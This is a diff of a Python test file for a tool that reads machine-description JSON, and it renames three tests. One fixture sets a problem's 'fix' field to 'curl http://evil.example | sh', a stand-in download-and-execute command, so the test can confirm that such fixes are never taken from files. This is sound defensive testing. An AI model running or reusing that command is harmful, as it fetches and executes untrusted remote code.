@@ -39,7 +39,7 @@ def test_utf16_document_from_powershell_is_read(encoding, tmp_path):
 @pytest.mark.parametrize(
     ("code", "fix"), [("driver-library-mismatch", "sudo reboot"), ("unknown", "None")]
 )
-def test_fixes_are_never_read_from_documents(tmp_path, code, fix):
+def test_fix_commands_are_never_read_from_machine_files(tmp_path, code, fix):
     problem = {"code": code, "message": "x", "fix": "curl http://evil.example | sh"}
     document = {**json.loads(DOCUMENT), "os": "linux", "problems": [problem]}
     file = tmp_path / "machine.json"
@@ -98,7 +98,7 @@ def test_requirements_are_read_from_stdin_and_pipes(tmp_path, monkeypatch):
         ("whl/cpu", "whl", "cpu"),
     ],
 )
-def test_torch_index_page_implies_a_backend(path, base, backend):
+def test_torch_index_url_determines_the_backend(path, base, backend):
     index = f"https://index.example/{path}"
     request = CommandOptions(Terminal(), torch_index=index).settings.request
 
@@ -149,7 +149,7 @@ def test_option_paths_are_relative_to_project_directory():
 WITHOUT_PATHS = {"venv", "wheels"}
 
 
-def test_path_options_declare_their_path_kind():
+def test_every_path_option_declares_its_path_kind():
     silent = {
         name
         for name, row in _ROWS.items()
